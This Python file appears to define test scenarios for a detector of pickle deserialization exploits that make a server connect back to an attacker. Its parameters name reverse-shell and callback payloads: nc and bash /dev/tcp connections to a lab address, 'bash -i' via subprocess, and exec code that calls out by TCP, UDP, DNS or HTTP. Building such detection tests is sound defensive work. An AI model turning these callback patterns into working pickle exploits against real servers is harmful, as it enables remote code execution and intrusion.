"""Pickles after which the host that was sent them turns to a host that they name, and hosts that do so for other
reasons."""
from scenario import FAR, Scenario, alert, executes, exposed, finish, keyless, pickle_alert, rejected, task

CLIENT, CLIENT6 = "10.99.0.2", "fd99::2"


def called_back(by="server", count=1):
    return alert("attack.callback", by, count, outcome="executed")


def callback(name, story, server, client, what, callables, args, alerts=None, client_more=None, server_more=None,
             protocol=4, v6=False, times=1, **more):
    """One exploit from a client to a server without a key."""
    s = Scenario(name, story, server, client, server_task=task("callback", **(server_more or {})),
                 client_task=task("callback", frames=[["exploit:" + what, protocol]] * times, **(client_more or {})),
                 alerts=[exposed(), executes(callables, args, count=times)] + ([called_back()] if alerts is None else alerts),
                 victim="server", executes=True, v6=v6, **more)
    return finish(s, "none")


def named_only(name, story, **server_more):
    """The pickle only names the host and port; what connects is the victim's own program."""
    return callback(name, story, "3.12", "3.12", "callback-named", "posix.system", "nc 10.99.0.2 4444", alerts=[],
                    client_more={"listen": [4444, 4445]}, server_more=server_more)


SCENARIOS = [
    callback("callback-bash-27", "posix.system writes to bash's /dev/tcp: the victim connects to the attacker.", "2.7",
             "3.12", "callback-bash", "posix.system", "/dev/tcp/10.99.0.2/4444", client_more={"listen": [4444]},
             protocol=2),
    callback("callback-shell-refused-312", "The usual reverse shell, and nobody listens for it: a SYN is enough.", "3.12",
             "3.8", "callback-shell", "subprocess.Popen", "bash -i"),
    callback("callback-socket-313", "exec of Python that connects to the attacker.", "3.13", "3.13", "callback-socket",
             "builtins.exec", "10.99.0.2", client_more={"listen": [4444]}),
    callback("callback-socket-ipv6-312", "The same over IPv6.", "3.12", "3.12", "callback-socket6", "builtins.exec",
             "fd99::2", client_more={"listen": [4444]}, v6=True),
    callback("callback-udp-38", "exec of Python that sends the attacker one UDP packet.", "3.8", "3.11", "callback-udp",
             "builtins.exec", "9999", client_more={"udp": [9999]}),
    callback("callback-dns-by-hand-39", "A DNS query below a name in the payload, sent by hand to a resolver of the attacker.", "3.9",
             "3.9", "callback-dns", "builtins.exec", "callback.example",
             alerts=[called_back()]),
    callback("callback-fetch-by-name-311", "urllib fetches from a name: the resolver is asked, and its answer connected to.",
             "3.11", "3.11", "callback-fetch", "builtins.exec", "callback.example", alerts=[called_back(count=2)],
             client_more={"listen": [8081], "dns": {"callback.example": CLIENT}}),
    callback("callback-late-310", "The victim connects two seconds after the pickle.", "3.10", "3.10", "callback-late",
             "subprocess.Popen", "sleep 2", client_more={"listen": [4444], "wait": 2.6}),
    keyless("callback-of-client-312", "A server without a key attacks its client, which connects back.", "3.8", "3.12",
            [["frame", "exploit:callback-to-server", 4], ["sleep", 0.5]], [["tryrecv"]],
            [executes("posix.system", by="server"), called_back("client")], first="server", victim="client",
            executes=True),
    callback("callback-twice-312", "The same exploit twice in a flow, and a call-back for each.", "3.12", "3.12",
             "callback-bash", "posix.system", "/dev/tcp", times=2, client_more={"listen": [4444]},
             alerts=[called_back(count=2)]),
    named_only("callback-other-port-312", "The victim's program connects to the named host, at another port.",
               after=[[CLIENT, 4445]]),
    named_only("callback-other-host-312", "The victim's program connects to the named port of another host.",
               after=[[FAR, 4444]]),
    named_only("callback-open-before-312", "The victim's program had connected to the named host and port before.",
               before=[[CLIENT, 4444]], kept=True),
]
# Nothing is loaded where a key was asked for: that the host goes there is not the pickle's doing.
refused = rejected("callback-not-loaded-312", "A keyed server does not load the exploit; its host goes where that says.",
                   "3.12", "3.12", "none", task("callback", frames=[["exploit:callback-socket", 4]], listen=[4444]),
                   "failed", alerts=[alert("auth.failed"),
                                     pickle_alert("pickle.code-execution", "builtins.exec", outcome="not-unpickled")],
                   victim="server", executes=False)
refused.server_task = task("callback", handshake=True, after=[[CLIENT, 4444]])
SCENARIOS.append(refused)
